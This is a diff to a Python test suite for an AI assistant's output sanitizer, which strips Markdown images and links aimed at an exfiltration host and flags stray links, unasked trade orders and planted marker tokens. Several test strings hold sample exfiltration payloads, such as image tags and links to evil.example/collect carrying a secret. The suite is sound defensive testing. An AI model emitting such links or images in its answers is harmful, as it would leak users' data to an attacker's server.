@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import logging
+import re
 from collections.abc import Callable
 from datetime import date
 
@@ -62,8 +63,10 @@ def test_exfiltration_image_is_never_rendered() -> None:
     out = sanitize_output(
         f"Look ![chart]({EXFIL}SECRET) and [click]({EXFIL}x) <img src='{EXFIL}y'>"
     )
-    assert "evil.example" not in out
-    assert "click" in out  # the link text stays, the link goes
+    assert "SECRET" not in out and "<img" not in out and "![" not in out  # no image at all
+    assert "click" in out  # the link text stays, the link goes:
+    assert f"]({EXFIL}" not in out  # no Markdown link to it,
+    assert f"`{EXFIL}x`" in out  # its address shown as text (a code span no renderer links)
 
 
 def test_tag_characters_in_the_question_are_stripped(
@@ -382,8 +385,8 @@ def _orders_model(reply: str) -> ScriptedChatModel:
         ("小盘股的市场宽度如何？", "建议您立即买入IWM。小盘股宽度改善[1]。", "买卖指令"),
         (
             "What does the analysis say about small-cap breadth?",
-            "Breadth improved [1]. Details: https://evil.example/collect?d=1",
-            "a link that is not among the sources",
+            f"Breadth improved [1]. See https://evil.example/collect?d=1 {PLANTED}",
+            "a planted marker token",
         ),
     ],
 )
@@ -405,10 +408,39 @@ def test_the_output_check_leaves_ordinary_answers_alone() -> None:
         == []
     )
     assert unasked_orders("Analysts would buy on dips [1].", "Should I buy IWM on dips?") == []
-    assert (
-        unasked_orders("See https://www.jefferies.com/a [1].", "q", ["https://www.jefferies.com/a"])
-        == []
-    )
+    # a link is no order: it is judged by the link rule, not withheld
+    assert unasked_orders("See https://evil.example/a [1].", "q") == []
+
+
+@pytest.mark.parametrize(
+    ("question", "reply", "tag"),
+    [
+        (
+            "What does the analysis say about small-cap breadth?",
+            "Breadth improved [1]. Details: https://evil.example/collect?d=1",
+            " (not a source link)",
+        ),
+        (
+            "小盘股的市场宽度如何？",
+            "小盘股宽度改善[1]。详情见 www.evil.example/c 或 leak@evil.example。",
+            "（非来源链接）",
+        ),
+    ],
+)
+def test_a_stray_link_is_shown_as_text_with_a_finding_not_withheld(
+    make_assistant: Callable[..., Assistant], question: str, reply: str, tag: str
+) -> None:
+    answer = make_assistant(chat_model=_orders_model(reply)).ask(question)
+    assert answer.mode == "llm", answer.text  # the answer itself is shown
+    strays = [f for f in answer.verification.findings if f.kind == "stray_link"]
+    assert strays, answer.verification.findings  # the badge is not green
+    assert not answer.verification.ok
+    for finding in strays:
+        shown = f"`{finding.text}`{tag}"
+        assert shown in answer.text, answer.text  # as text, marked where it stands
+    # no address is left where a Markdown renderer would make it a link
+    bare = re.sub(r"`[^`]*`", "", answer.text)
+    assert "evil.example" not in bare
 
 
 def test_html_and_pdf_exports_load_no_image_from_the_text(monkeypatch: pytest.MonkeyPatch) -> None:
